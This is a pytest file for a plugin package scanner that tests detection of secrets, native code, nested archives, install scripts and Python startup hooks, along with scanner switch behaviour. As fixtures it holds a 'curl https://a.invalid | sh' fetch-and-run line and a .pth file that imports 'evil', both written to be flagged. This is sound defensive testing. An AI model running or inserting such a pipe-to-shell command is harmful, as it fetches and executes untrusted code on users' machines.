"""What the scan sees in a package: numbers, programs, secrets, and scripts that other tools would run."""

from __future__ import annotations

import io
import json
import zipfile
from typing import TYPE_CHECKING, ClassVar

import pytest

from packages import zipped
from plugin_trees import FILES, PRIVATE_KEY, TOKEN, a_tree
from pluginry.encoding.archive import read_archive
from pluginry.encoding.documents import decode, encode
from pluginry.encoding.schema import schema_folder
from pluginry.errors import ArchiveError
from pluginry.model.digest import Digest
from pluginry.model.facts import Facts
from pluginry.model.finding import Severity
from pluginry.model.names import ANY_PLATFORM, Platform
from pluginry.model.registry import ScannerSwitches
from pluginry.publisher import scan as stage
from pluginry.publisher.pack import PackedArtifact, pack
from pluginry.publisher.scan import SCANNERS, ScanResult, facts_of_release, scan
from pluginry.publisher.scan_setup import ScanSetup
from pluginry.publisher.scanners.scanner import Scanner
from pluginry.publisher.source_reading.access_kinds import IN_WORDS
from scanned_packages import scanned as scanned_files

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping
    from pathlib import Path

    from pluginry.publisher.scanners.scanner import Noticed, ScannedPackage

NATIVE = b"\x7fELF\x02\x01\x01"


@pytest.fixture
def packed(tmp_path: Path) -> PackedArtifact:
    return pack(a_tree(tmp_path / "plugin"), out=tmp_path / "out.zip")


def scanned(packed: PackedArtifact, extra: Mapping[str, bytes | str], platform: Platform = ANY_PLATFORM) -> ScanResult:
    """Scan an archive of just a manifest and `extra` files: the scan does not ask for more."""
    bodies = {name: body.encode() if isinstance(body, str) else body for name, body in extra.items()}
    data = zipped({"plugin.json": packed.manifest_bytes, **bodies})
    archive = read_archive(io.BytesIO(data))
    return scan(archive, platform=platform, manifest=packed.manifest, digest=Digest.of(data))


def seen(packed: PackedArtifact, extra: Mapping[str, bytes | str]) -> list[tuple[str, str, int]]:
    return [(f.rule, f.where.file, f.where.line) for f in scanned(packed, extra).findings]


class TestFacts:
    def test_a_package_by_numbers(self, packed: PackedArtifact) -> None:
        with packed.path.open("rb") as stream:
            result = scan(
                read_archive(stream), platform=ANY_PLATFORM, manifest=packed.manifest, digest=packed.blob.sha256
            )
        facts = result.facts
        assert (facts.platform, facts.sha256, facts.files) == (ANY_PLATFORM, packed.blob.sha256, len(FILES) + 1)
        assert facts.unpacked_size == sum(member.file_size for member in zipfile.ZipFile(packed.path).infolist())
        assert facts.executables == ("tools/train",)
        assert facts.suffixes == {"(none)": 2, ".json": 3, ".md": 1, ".py": 1, ".txt": 1}
        assert result.findings == ()

    def test_programs_are_those_that_are_marked_or_start_like_one(self, packed: PackedArtifact) -> None:
        facts = scanned(packed, {"a": NATIVE, "b": "#!/bin/sh\n", "c": "echo\n"}).facts
        assert facts.executables == ("a", "b")

    @pytest.mark.parametrize(
        ("name", "suffix"),
        [
            ("a.TAR.GZ", ".gz"),
            (".hidden", "(none)"),
            ("a.b/c", "(none)"),
            ("x." + "y" * 100, "(other)"),
            ("dot.x", ".x"),
        ],
    )
    def test_suffixes(self, packed: PackedArtifact, name: str, suffix: str) -> None:
        assert scanned(packed, {name: ""}).facts.suffixes == {".json": 1, suffix: 1}

    def test_a_thousand_suffixes_are_put_together(self, packed: PackedArtifact) -> None:
        suffixes = scanned(packed, {f"f.{number}": "" for number in range(1000)}).facts.suffixes
        assert len(suffixes) == 101
        assert sum(suffixes.values()) == 1001

    def test_folders_are_no_files(self, packed: PackedArtifact) -> None:
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w") as archive:
            archive.writestr(zipfile.ZipInfo("plugin.json"), packed.manifest_bytes)
            archive.writestr(zipfile.ZipInfo("folder/"), b"")
        result = scan(read_archive(stream), platform=ANY_PLATFORM, manifest=packed.manifest, digest=packed.blob.sha256)
        assert result.facts.files == 1

    def test_facts_of_a_release_are_a_document(self, packed: PackedArtifact) -> None:
        linux, windows = Platform("linux-x86_64"), Platform("windows-x86_64")
        results = [scanned(packed, {"a": NATIVE, "setup.py": ""}, platform) for platform in (windows, linux)]
        facts = facts_of_release(packed.manifest, results)
        assert [artifact.platform for artifact in facts.artifacts] == [linux, windows]
        assert [(f.rule, f.severity, f.file) for f in facts.findings] == [
            ("scan.native-code", "note", "a"),
            ("scan.install-script", "needs_review", "setup.py"),
        ]
        assert {*facts.scanners, *facts.not_run} == {scanner.name for scanner in SCANNERS}
        assert facts.not_run == {"vulnerabilities": "no database of vulnerabilities was given"}
        assert decode(Facts, encode(facts), what="facts") == facts


class TestFindings:
    def test_secrets_have_file_and_line_and_need_review(self, packed: PackedArtifact) -> None:
        result = scanned(packed, {"conf/.env": "", "src/a.txt": f"\n\nkey = '{TOKEN}'\n{PRIVATE_KEY}"})
        assert [(f.rule, f.where.file, f.where.line) for f in result.findings] == [
            ("scan.secret-file", "conf/.env", 0),
            ("scan.secret", "src/a.txt", 3),
            ("scan.secret", "src/a.txt", 4),
        ]
        assert {finding.severity for finding in result.findings} == {Severity.NEEDS_REVIEW}
        assert TOKEN not in repr(result)

    def test_contents_that_nobody_can_look_into_are_noted(self, packed: PackedArtifact) -> None:
        assert seen(packed, {"lib/x.so": NATIVE, "data.zip": b"PK\x03\x04...", "a.gz": b"\x1f\x8b\x08"}) == [
            ("scan.nested-archive", "a.gz", 0),
            ("scan.nested-archive", "data.zip", 0),
            ("scan.native-code", "lib/x.so", 0),
        ]

    @pytest.mark.parametrize("name", ["setup.py", "deep/Setup.py", "binding.gyp"])
    def test_install_scripts(self, packed: PackedArtifact, name: str) -> None:
        assert seen(packed, {name: ""}) == [("scan.install-script", name, 0)]

    @pytest.mark.parametrize("script", ["preinstall", "install", "postinstall"])
    def test_npm_scripts(self, packed: PackedArtifact, script: str) -> None:
        document = f'{{"version": 1.0, "scripts": {{"{script}": "node x.js", "test": "jest"}}}}'
        assert seen(packed, {"package/package.json": document}) == [("scan.install-script", "package/package.json", 0)]

    @pytest.mark.parametrize(
        "document", ["{}", '{"scripts": {"test": "jest", "install": ""}}', '{"scripts": []}', "[]", '{"scripts": "x"}']
    )
    def test_npm_packages_without_install_scripts(self, packed: PackedArtifact, document: str) -> None:
        assert seen(packed, {"package.json": document}) == []

    @pytest.mark.parametrize("document", [b"{", b"\xff", b"[" * 100_000, b" " * ((1 << 20) + 1)], ids=len)
    def test_npm_packages_that_cannot_be_read(self, packed: PackedArtifact, document: bytes) -> None:
        assert seen(packed, {"package.json": document}) == [("scan.unclear-scripts", "package.json", 0)]

    def test_startup_hooks_of_python(self, packed: PackedArtifact) -> None:
        files = {"a.pth": "lib\nimport evil\n", "b.pth": "lib\nimportant\n", "src/sitecustomize.py": ""}
        assert seen(packed, files) == [
            ("scan.startup-hook", "a.pth", 2),
            ("scan.startup-hook", "src/sitecustomize.py", 0),
        ]

    def test_a_flood_of_findings_is_cut_for_each_scanner(self, packed: PackedArtifact) -> None:
        files = {f"{number}/setup.py": "" for number in range(300)} | {f"{number}.so": NATIVE for number in range(300)}
        rules = [rule for rule, _, _ in seen(packed, files | {"z.txt": TOKEN})]
        assert (rules.count("scan.install-script"), rules.count("scan.native-code")) == (100, 100)
        assert "scan.secret" in rules

    def test_findings_do_not_depend_on_how_members_are_compressed(self, packed: PackedArtifact) -> None:
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("plugin.json", packed.manifest_bytes)
            archive.writestr("a.txt", "x\n" * 100_000 + TOKEN)
        result = scan(read_archive(stream), platform=ANY_PLATFORM, manifest=packed.manifest, digest=packed.blob.sha256)
        assert [(f.rule, f.where.line) for f in result.findings] == [("scan.secret", 100_001)]

    def test_damaged_contents_are_an_error(self, packed: PackedArtifact) -> None:
        data = packed.path.read_bytes().replace(b"lottery", b"lOttery")
        with pytest.raises(ArchiveError):
            scan(
                read_archive(io.BytesIO(data)),
                platform=ANY_PLATFORM,
                manifest=packed.manifest,
                digest=packed.blob.sha256,
            )


class TestSwitches:
    FILES: ClassVar[dict[str, str]] = {"setup.py": "", "run.sh": "curl https://a.invalid | sh\n"}

    def verdicts(self, **switches: ScannerSwitches) -> dict[str, Severity]:
        named = {name.replace("_", "-"): known for name, known in switches.items()}
        result = scanned_files(self.FILES, setup=ScanSetup(switches=named))
        return {finding.rule: finding.severity for finding in result.findings}

    def test_nothing_blocks_unless_the_registry_says_so(self) -> None:
        assert set(self.verdicts().values()) == {Severity.NEEDS_REVIEW}

    def test_what_an_enforced_scanner_finds_blocks_and_others_do_not(self) -> None:
        assert self.verdicts(patterns=ScannerSwitches(enforced=True)) == {
            "scan.install-script": Severity.NEEDS_REVIEW,
            "scan.suspicious-pattern": Severity.BLOCKS,
        }

    def test_notes_of_an_enforced_scanner_stay_notes(self) -> None:
        setup = ScanSetup(switches={"inventory": ScannerSwitches(enforced=True)})
        (found,) = scanned_files({"a.so": NATIVE}, setup=setup).findings
        assert found.severity is Severity.NOTE

    def test_a_scanner_that_is_switched_off_does_not_run_and_the_facts_say_so(self) -> None:
        setup = ScanSetup(switches={"patterns": ScannerSwitches(enabled=False)})
        result = scanned_files(self.FILES, setup=setup)
        assert {finding.rule for finding in result.findings} == {"scan.install-script"}
        assert result.not_run["patterns"] == "it is switched off"
        assert "patterns" not in result.scanners

    def test_a_required_scanner_that_cannot_run_blocks(self) -> None:
        (found,) = scanned_files(
            {}, setup=ScanSetup(switches={"vulnerabilities": ScannerSwitches(required=True)})
        ).findings
        assert (found.rule, found.severity) == ("scan.scanner-missing", Severity.BLOCKS)
        assert "no database of vulnerabilities was given" in found.message

    def test_rules_of_the_operator_that_cannot_be_read_keep_the_scanner_from_running(self, tmp_path: Path) -> None:
        (tmp_path / "own.yar").write_text("rule {", encoding="utf-8")
        assert (
            "these YARA rules cannot be read" in scanned_files({}, setup=ScanSetup(rules=tmp_path)).not_run["patterns"]
        )

    def test_rules_of_the_operator_are_looked_with_and_their_digest_is_told(self, tmp_path: Path) -> None:
        rule = 'rule own { meta: description = "ours" strings: $a = "needle" condition: $a }'
        (tmp_path / "own.yar").write_text(rule, encoding="utf-8")
        result = scanned_files({"a.txt": "hay\nneedle\n"}, setup=ScanSetup(rules=tmp_path))
        assert [(f.rule, f.severity, f.where.line, f.message) for f in result.findings] == [
            ("scan.notable-pattern", Severity.NOTE, 2, "own: ours")
        ]
        assert result.scanners["patterns"].startswith("1+")

    @pytest.mark.parametrize(
        ("switches", "severity"),
        [
            (ScannerSwitches(), Severity.NEEDS_REVIEW),
            (ScannerSwitches(enforced=True), Severity.BLOCKS),
            (ScannerSwitches(required=True), Severity.BLOCKS),
        ],
    )
    def test_a_scanner_that_breaks_is_a_finding_and_the_others_go_on(
        self, monkeypatch: pytest.MonkeyPatch, switches: ScannerSwitches, severity: Severity
    ) -> None:
        def breaks(_package: ScannedPackage) -> Iterator[Noticed]:
            raise ZeroDivisionError
            yield

        broken = Scanner(name="broken", version="1", rules=(), scan=breaks)
        monkeypatch.setattr(stage, "SCANNERS", (broken, *SCANNERS))
        result = scanned_files({"setup.py": ""}, setup=ScanSetup(switches={"broken": switches}))
        assert [(f.rule, f.severity) for f in result.findings] == [
            ("scan.scanner-failed", severity),
            ("scan.install-script", Severity.NEEDS_REVIEW),
        ]
        assert result.not_run["broken"] == "it broke off (ZeroDivisionError)"

    def test_the_registry_can_name_every_scanner_and_no_other(self) -> None:
        schema = json.loads((schema_folder() / "registry.schema.json").read_bytes())
        names = schema["properties"]["scanning"]["propertyNames"]["enum"]
        assert sorted(names) == sorted(scanner.name for scanner in SCANNERS)

    def test_the_schema_of_hosts_knows_every_kind_of_access(self) -> None:
        schema = json.loads((schema_folder() / "host.schema.json").read_bytes())
        permission = schema["properties"]["permissions"]["items"]["properties"]
        assert sorted(permission["covers"]["items"]["enum"]) == sorted(IN_WORDS)


def test_every_rule_says_what_why_and_how() -> None:
    assert len({rule.id for rule in stage.RULES}) == len(stage.RULES)
    for rule in stage.RULES:
        assert rule.id.startswith("scan.")
        assert all((rule.title, rule.why, rule.fix))
        assert rule.severity is not Severity.BLOCKS, "a scanner's hit never blocks by itself"
